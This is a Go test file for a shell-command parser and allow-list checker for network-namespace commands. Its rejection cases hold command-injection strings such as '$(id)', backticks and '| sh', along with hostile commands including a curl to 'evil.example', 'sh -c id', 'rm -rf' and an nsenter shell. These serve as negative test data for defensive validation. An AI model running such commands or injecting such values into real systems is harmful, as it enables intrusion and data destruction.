package shellwords

import (
	"slices"
	"testing"
)

func TestParse(t *testing.T) {
	for _, tt := range []struct {
		in   string
		want [][]string
	}{
		{"ip -n a link set b up", [][]string{{"ip", "-n", "a", "link", "set", "b", "up"}}},
		{`ip -n 'a;id' x && nft 'chain a b c { policy accept; }'`, [][]string{{"ip", "-n", "a;id", "x"}, {"nft", "chain a b c { policy accept; }"}}},
		{`ip -n 'it'\''s' x`, [][]string{{"ip", "-n", "it's", "x"}}},
		{"ip -n '' x", [][]string{{"ip", "-n", "", "x"}}},
	} {
		got, err := Parse(tt.in)
		if err != nil || !slices.EqualFunc(got, tt.want, slices.Equal) {
			t.Errorf("Parse(%q) = %q, %v; want %q", tt.in, got, err, tt.want)
		}
	}
	for _, bad := range []string{"ip -n a; id", "ip -n $(id)", "ip -n `id`", "ip -n 'a", "ip -n a\nid", "ip -n a | sh", "ip -n a*", "ip ~", "ip \"a\"", "ip -n a && ", "&& ip"} {
		if got, err := Parse(bad); err == nil {
			t.Errorf("Parse(%q) = %q, want an error", bad, got)
		}
	}
}

func TestCheck(t *testing.T) {
	for _, ok := range []string{"ip netns exec 'a;b' nft list ruleset", "nsenter -t 1 -n ip link", "nsenter --net=/run/x ip link", "ip -n x link && sysctl -w a=1"} {
		if _, err := Check(ok); err != nil {
			t.Errorf("Check(%q): %v", ok, err)
		}
	}
	for _, bad := range []string{"curl http://evil.example/x", "ip netns exec a sh -c id", "ip -n x link && rm -rf x", "nsenter -t 1 -n sh"} {
		if _, err := Check(bad); err == nil {
			t.Errorf("Check(%q) accepted", bad)
		}
	}
}
